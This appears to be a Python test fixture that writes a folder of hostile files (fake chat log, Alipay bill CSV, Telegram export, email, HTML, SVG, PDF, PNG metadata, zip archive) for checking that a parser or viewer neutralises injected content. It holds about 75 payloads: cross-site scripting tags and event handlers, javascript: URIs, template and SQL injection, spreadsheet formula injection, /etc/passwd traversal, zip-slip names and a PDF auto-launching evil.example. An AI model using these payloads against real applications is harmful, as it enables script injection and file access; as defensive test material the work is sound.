"""A heap in which everything tries to run, to load or to break out. All hosts and persons are invented.

Every payload carries its own mark ("pw" and a number), so that a test can tell where it came out as text.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image
from PIL.PngImagePlugin import PngInfo

EVIL = "http://evil.example"

_RUN = "window.__ran=1"
PAYLOADS: tuple[str, ...] = tuple(
    text.replace("MARK", f"pw{number:03}").replace("RUN", _RUN).replace("EVIL", EVIL)
    for number, text in enumerate(
        (
            "<script>RUN//MARK</script>",
            "</title><script>RUN//MARK</script>",
            "</textarea><script>RUN//MARK</script>",
            "</script><script>RUN//MARK</script>",
            "</style><script>RUN//MARK</script>",
            "--><script>RUN//MARK</script>",
            "]]><script>RUN//MARK</script>",
            "\"><script>RUN//MARK</script>",
            "'><script>RUN//MARK</script>",
            "<ScRiPt>RUN//MARK</sCrIpT>",
            "<script src=EVIL/MARK.js></script>",
            "<script\x0csrc=EVIL/MARK.js></script>",
            "<img src=x onerror=RUN alt=MARK>",
            "\"><img src=x onerror=RUN alt=MARK>",
            "<img src=EVIL/MARK.png>",
            "<img srcset='EVIL/MARK.png 2x'>",
            "<svg onload=RUN><text>MARK</text></svg>",
            "<svg><script>RUN//MARK</script></svg>",
            "<svg><image href=EVIL/MARK.svg></svg>",
            "<svg><animate onbegin=RUN attributeName=x dur=1s>MARK</svg>",
            "<svg><use href='EVIL/MARK.svg#x'></svg>",
            "<math><mtext><script>RUN//MARK</script></mtext></math>",
            "<iframe src='javascript:RUN'>MARK</iframe>",
            "<iframe srcdoc='<script>parent.__ran=1</script>'>MARK</iframe>",
            "<iframe src=EVIL/MARK></iframe>",
            "<object data=EVIL/MARK.swf>MARK</object>",
            "<embed src=EVIL/MARK.swf>",
            "<link rel=stylesheet href=EVIL/MARK.css>",
            "<link rel=prefetch href=EVIL/MARK>",
            "<style>@import 'EVIL/MARK.css'</style>",
            "<style>*{background:url(EVIL/MARK.png)}</style>",
            "<div style='background:url(EVIL/MARK.png)'>MARK</div>",
            "\" style=\"background:url(EVIL/MARK.png)\" x=\"",
            "<meta http-equiv=refresh content='0;url=EVIL/MARK'>",
            "<base href='EVIL/MARK/'>",
            "<form action=EVIL/MARK><button>MARK</button></form>",
            "<input autofocus onfocus=RUN value=MARK>",
            "<select autofocus onfocus=RUN><option>MARK</select>",
            "<details open ontoggle=RUN>MARK</details>",
            "<video src=EVIL/MARK.mp4 onerror=RUN></video>",
            "<audio src=EVIL/MARK.mp3 onerror=RUN></audio>",
            "<body onload=RUN>MARK",
            "<marquee onstart=RUN>MARK</marquee>",
            "<a href='javascript:RUN'>MARK</a>",
            "javascript:RUN//MARK",
            "JaVaScRiPt:RUN//MARK",
            "java\tscript:RUN//MARK",
            "data:text/html,<script>RUN//MARK</script>",
            "vbscript:MARK",
            "{{ 7*7 }} MARK",
            "{% for x in [].__class__.__base__.__subclasses__() %}MARK{% endfor %}",
            "${RUN} MARK",
            "#{RUN} MARK",
            "<%= RUN %> MARK",
            "&lt;script&gt;RUN//MARK&lt;/script&gt;",
            "&#60;script&#62;RUN//MARK&#60;/script&#62;",
            "%3Cscript%3ERUN//MARK%3C/script%3E",
            "\\u003cscript\\u003eRUN//MARK\\u003c/script\\u003e",
            "＜script＞RUN//MARK＜/script＞",
            "+ADw-script+AD4-RUN//MARK+ADw-/script+AD4-",
            "=HYPERLINK(\"EVIL/MARK\",\"MARK\")",
            "=cmd|'/c calc'!A1 MARK",
            "@SUM(1+1) MARK",
            "' OR 1=1 -- MARK",
            "../../../../etc/passwd MARK",
            "MARK\u202etxt.exe",
            "\u2066\u202eMARK\u2069",
            "MARK\u200b\u2060\ufeff",
            "👩\u200d👧🏳️\u200d🌈 MARK",
            "שלום MARK مرحبا",
            "Z\u0335\u0321\u0337a\u0334\u0322l\u0338go MARK",
            "file:///etc/passwd MARK",
            "//evil.example/MARK",
            "EVIL/MARK?q=<script>RUN</script>",
            "MARK " + "长" * 5_000,
        )
    )
)  # fmt: skip

_MAIL = """From: "{0}" <helper@recover.example>
To: payer@mail.example
Subject: {1}
Date: Fri, 20 Nov 2026 08:00:00 +0800
Message-ID: <{2}@evil.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url={evil}/mail"><base href="{evil}/"></head>
<body onload="window.__ran=1"><img src="{evil}/pixel.png"><script>window.__ran=1</script>
追回您的损失 {3}</body></html>
--b
Content-Type: image/svg+xml
Content-Disposition: attachment; filename="{4}"

{svg}
--b--
"""
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__ran=1"><script>window.__ran=1</script>'
    f'<image href="{EVIL}/x.png"/><foreignObject><iframe src="{EVIL}/f"/></foreignObject></svg>'
)
_PAGE = (
    "<!doctype html><title>订单</title><body onload='window.__ran=1'><script>window.__ran=1</script>"
    f"<img src='{EVIL}/a.png'><link rel=stylesheet href='{EVIL}/a.css'><p>{{}}</p>"
)


def write_heap(folder: Path) -> None:
    """Write the heap into `folder`."""
    folder.mkdir(parents=True)
    (folder / "聊天_导师.txt").write_text(_chat(), encoding="utf-8")
    (folder / "支付宝账单.csv").write_bytes(_bill().encode("gb18030", "replace"))
    (folder / "telegram.json").write_text(_telegram(), encoding="utf-8")
    (folder / "mail.eml").write_text(_mail(), encoding="utf-8")
    (folder / "order.html").write_text(_PAGE.format("<br>".join(PAYLOADS[:60])), encoding="utf-8")
    (folder / "picture.svg").write_text(_SVG, encoding="utf-8")
    (folder / "disguised.png").write_text(_SVG, encoding="utf-8")
    (folder / "disguised.jpg").write_text(_PAGE.format("x"), encoding="utf-8")
    (folder / "notes.md").write_text("\n\n".join(PAYLOADS), encoding="utf-8")
    (folder / "script.pdf").write_bytes(_pdf())
    (folder / "exif.png").write_bytes(_png())
    (folder / "broken.png").write_bytes(_png()[:60])
    (folder / "members.zip").write_bytes(_zip())
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "\u2044").replace("\0", "")[:60]
        (folder / f"{number} {name}.txt").write_text(f"note {number} {payload}\n", encoding="utf-8")


def _chat() -> str:
    parts = []
    for number, payload in enumerate(PAYLOADS):
        clean = payload.replace("\x0c", " ")
        day, minute = 1 + number // 60, number % 60
        parts.append(f"2026-11-{day:02} 20:{minute:02}:00 导师小林\n转{1000 + number}元 {clean}\n")
    return "\n".join(parts)


def _bill() -> str:
    head = (
        "交易号,商家订单号,交易创建时间,付款时间,最近修改时间,交易来源地,类型,交易对方,商品名称,"
        "金额（元）,收/支,交易状态,服务费（元）,成功退款（元）,备注,资金状态"
    )
    rows = io.StringIO()
    writer = csv.writer(rows)
    for number, payload in enumerate(PAYLOADS[:74]):
        paid = f"2026-11-{1 + number // 60:02} 21:{number % 60:02}:09"
        amount = f"{1000 + number}.00"
        fixed = [f"20261118{number:05}", "", paid, paid, paid, "其他", "即时到账交易"]
        rest = [amount, "支出", "交易成功", "0.00", "0.00", payload, "已支出"]
        writer.writerow([*fixed, payload, payload, *rest])
    return (
        "支付宝交易记录明细查询\n账号:[payer@mail.example]\n"
        "起始日期:[2026-11-01 00:00:00]    终止日期:[2026-11-20 00:00:00]\n"
        "---------------------------------交易记录明细列表------------------------------------\n"
        f"{head}\n{rows.getvalue()}"
        "-----------------------------------------------------------------------------------\n"
        "共74笔记录\n导出时间:[2026-11-20 09:00:00]\n"
    )


def _telegram() -> str:
    messages = [
        {
            "id": number,
            "type": "message",
            "date": f"2026-11-{3 + number // 60:02}T20:{number % 60:02}:00",
            "from": payload,
            "from_id": f"user{number}",
            "text": payload,
        }
        for number, payload in enumerate(PAYLOADS, 1)
    ]
    chat = {"name": PAYLOADS[0], "type": "personal_chat", "id": 1, "messages": messages}
    return json.dumps(chat, ensure_ascii=False)


def _mail() -> str:
    quoted = PAYLOADS[0].replace('"', "'")
    return _MAIL.format(
        quoted,
        PAYLOADS[1],
        "pw.x",
        PAYLOADS[12],
        "a<img src=x onerror=window.__ran=1>.svg",
        evil=EVIL,
        svg=_SVG,
    )


def _pdf() -> bytes:
    script = "/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://evil.example/pdf'\\)) >>"
    bodies = (
        f"<< /Type /Catalog /Pages 2 0 R {script} >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Annots [<< /Type /Annot /Subtype /Link "
        "/Rect [0 0 200 100] /A << /S /URI /URI (javascript:window.__ran=1) >> >>] >>",
        "<< /Title (<script>window.__ran=1</script>) >>",
    )
    out, starts = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        starts.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("ascii")
    xref = len(out)
    out += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode("ascii")
    out += b"".join(f"{start:010} 00000 n \n".encode("ascii") for start in starts)
    out += f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R /Info 4 0 R >>\n".encode("ascii")
    return bytes(out + f"startxref\n{xref}\n%%EOF".encode("ascii"))


def _png() -> bytes:
    notes = PngInfo()
    notes.add_text("Comment", PAYLOADS[0])
    exif = Image.Exif()
    exif[0x010E] = PAYLOADS[12]
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "white").save(out, "PNG", pnginfo=notes, exif=exif)
    end = struct.pack("!I", 4) + b"tEXt" + b"a\0<b" + struct.pack("!I", zlib.crc32(b"tEXta\0<b"))
    return out.getvalue() + end


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number, payload in enumerate(PAYLOADS[:40]):
            archive.writestr(f"../{number}/{payload}.txt", f"member {number} {payload}")
        archive.writestr("x" * 5_000 + "<script>window.__ran=1</script>.txt", "a long name")
        archive.writestr("page.svg", _SVG)
    return out.getvalue()
